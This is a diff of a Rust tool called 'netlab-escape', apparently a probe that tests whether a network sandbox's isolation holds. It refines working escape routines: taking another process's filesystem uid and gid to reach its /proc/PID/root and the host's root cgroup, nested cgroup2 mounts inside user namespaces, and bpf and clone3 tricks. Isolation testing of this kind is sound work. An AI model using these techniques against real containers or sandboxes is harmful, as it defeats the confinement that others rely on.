@@ -118,14 +118,18 @@ struct Args {
 impl Args {
     fn parse() -> Result<Args, String> {
         let mut args = std::env::args().skip(1);
-        let attack = args.next().ok_or("usage: netlab-escape ATTACK [--key value]...")?;
+        let attack = args
+            .next()
+            .ok_or("usage: netlab-escape ATTACK [--key value]...")?;
         let mut named = HashMap::new();
         while let Some(key) = args.next() {
             let key = key
                 .strip_prefix("--")
                 .ok_or_else(|| format!("expected --key, got {key}"))?
                 .to_owned();
-            let value = args.next().ok_or_else(|| format!("--{key} needs a value"))?;
+            let value = args
+                .next()
+                .ok_or_else(|| format!("--{key} needs a value"))?;
             named.insert(key, value);
         }
         Ok(Args { attack, named })
@@ -266,7 +270,8 @@ fn clone3_cgroup(args: &Args, report: &mut Report) -> Result<(), String> {
         return Err("pipe2 failed".into());
     }
     // SAFETY: both fds were just created by pipe2.
-    let (reader, writer) = unsafe { (OwnedFd::from_raw_fd(pipe[0]), OwnedFd::from_raw_fd(pipe[1])) };
+    let (reader, writer) =
+        unsafe { (OwnedFd::from_raw_fd(pipe[0]), OwnedFd::from_raw_fd(pipe[1])) };
     #[repr(C)]
     #[derive(Default)]
     struct CloneArgs {
@@ -369,20 +374,34 @@ fn fsuid() -> u32 {
     unsafe { libc::setfsuid(u32::MAX) as u32 }
 }
 
-/// setfsuid to `uid`, recorded: the call has no error return, so the result is read back.
-fn set_fsuid(report: &mut Report, uid: u32) -> bool {
-    // SAFETY: changes this thread's filesystem uid only.
-    unsafe { libc::setfsuid(uid) };
-    let now = fsuid();
+/// The current fsgid.
+fn fsgid() -> u32 {
+    // SAFETY: setfsgid(-1) only reads the current fsgid.
+    unsafe { libc::setfsgid(u32::MAX) as u32 }
+}
+
+/// setfsuid and setfsgid to `id`, recorded: the calls have no error return, so the result
+/// is read back.
+fn set_fs_ids(report: &mut Report, id: u32) -> bool {
+    // SAFETY: changes this thread's filesystem gid and uid only.
+    unsafe {
+        libc::setfsgid(id);
+        libc::setfsuid(id);
+    }
+    let now = (fsuid(), fsgid());
     report.step_detail(
-        &format!("setfsuid({uid})"),
-        if now == uid { Ok(()) } else { Err(libc::EPERM) },
-        json!(now),
+        &format!("setfsuid+setfsgid({id})"),
+        if now == (id, id) {
+            Ok(())
+        } else {
+            Err(libc::EPERM)
+        },
+        json!([now.0, now.1]),
     )
 }
 
-/// Takes the filesystem uid of a process outside (`--pid`, running as `--uid`), which makes
-/// its `/proc/PID/root` reachable; through it, the outside's cgroup2 mount; writes its own pid
+/// Takes the filesystem uid and gid of a process outside (`--pid`, running as `--uid`, gid the
+/// same), which makes its `/proc/PID/root` reachable without `CAP_SYS_PTRACE`; through it, the outside's cgroup2 mount; writes its own pid
 /// into the root cgroup and connects to `--dst` from there.
 fn proc_root_cgroup(args: &Args, report: &mut Report) -> Result<(), String> {
     let pid: u32 = args.parse_as("pid")?;
@@ -390,7 +409,7 @@ fn proc_root_cgroup(args: &Args, report: &mut Report) -> Result<(), String> {
     let dst = args.dst()?;
     let mount = cgroup2_mount().unwrap_or_else(|| "/sys/fs/cgroup".into());
     report.set("cgroup_before", json!(own_cgroup()));
-    set_fsuid(report, uid);
+    set_fs_ids(report, uid);
     let root_path = cstr(&format!("/proc/{pid}/root"));
     // SAFETY: a valid path; the fd is owned below.
     let fd = unsafe {
@@ -401,7 +420,7 @@ fn proc_root_cgroup(args: &Args, report: &mut Report) -> Result<(), String> {
     };
     let opened = report.step("open(/proc/PID/root)", check(fd.into()).map(drop));
     // Back to fsuid 0: the filesystem capabilities come back with it (when still held).
-    set_fsuid(report, 0);
+    set_fs_ids(report, 0);
     if opened {
         // SAFETY: fd was just returned by open.
         let root = unsafe { OwnedFd::from_raw_fd(fd) };
@@ -591,12 +610,7 @@ fn errqueue(args: &Args, report: &mut Report) -> Result<(), String> {
     let fd = socket.as_raw_fd();
     report.step(
         "setsockopt(IP_RECVERR)",
-        setsockopt_raw(
-            fd,
-            libc::IPPROTO_IP,
-            libc::IP_RECVERR,
-            &1i32.to_ne_bytes(),
-        ),
+        setsockopt_raw(fd, libc::IPPROTO_IP, libc::IP_RECVERR, &1i32.to_ne_bytes()),
     );
     println!("ready");
     let _ = std::io::stdout().flush();
@@ -750,15 +764,18 @@ fn bound_index(fd: RawFd) -> i64 {
 }
 
 /// A user namespace (uid 0 mapped to 0) with its own mount and cgroup namespaces: mounts
-/// cgroup2, makes `sub` below its cgroup and moves itself there.
+/// cgroup2 (on `/tmp`, in its own mount namespace only), makes `sub` below its cgroup and
+/// moves itself there.
 fn nested_cgroup(args: &Args, report: &mut Report) -> Result<(), String> {
     let dst = args.dst()?;
     report.set("cgroup_before", json!(own_cgroup()));
     // SAFETY: unshare with namespace flags only affects this (single-threaded) process.
-    let rc = unsafe {
-        libc::unshare(libc::CLONE_NEWUSER | libc::CLONE_NEWNS | libc::CLONE_NEWCGROUP)
-    };
-    if !report.step("unshare(NEWUSER|NEWNS|NEWCGROUP)", check(rc.into()).map(drop)) {
+    let rc =
+        unsafe { libc::unshare(libc::CLONE_NEWUSER | libc::CLONE_NEWNS | libc::CLONE_NEWCGROUP) };
+    if !report.step(
+        "unshare(NEWUSER|NEWNS|NEWCGROUP)",
+        check(rc.into()).map(drop),
+    ) {
         return Ok(());
     }
     for (file, text) in [
@@ -781,18 +798,12 @@ fn nested_cgroup(args: &Args, report: &mut Report) -> Result<(), String> {
         )
     };
     report.step("mount(/, MS_PRIVATE)", check(rc.into()).map(drop));
-    let target = cgroup2_mount().unwrap_or_else(|| "/sys/fs/cgroup".into());
+    // Not over the old cgroup2 mount point: the kernel refuses to stack the same filesystem
+    // on the root of its own mount (EBUSY).
+    let target = "/tmp".to_owned();
     let (fs, dir) = (cstr("cgroup2"), cstr(&target));
     // SAFETY: valid paths; mounts this cgroup namespace's view over the old mount point.
-    let rc = unsafe {
-        libc::mount(
-            fs.as_ptr(),
-            dir.as_ptr(),
-            fs.as_ptr(),
-            0,
-            std::ptr::null(),
-        )
-    };
+    let rc = unsafe { libc::mount(fs.as_ptr(), dir.as_ptr(), fs.as_ptr(), 0, std::ptr::null()) };
     if !report.step("mount(cgroup2)", check(rc.into()).map(drop)) {
         return Ok(());
     }
@@ -845,7 +856,7 @@ fn bpf(report: &mut Report) -> Result<(), String> {
     let fd = unsafe {
         libc::syscall(
             libc::SYS_bpf,
-            0 /* BPF_MAP_CREATE */,
+            0, /* BPF_MAP_CREATE */
             attr.as_mut_ptr(),
             attr.len() as u32,
         )
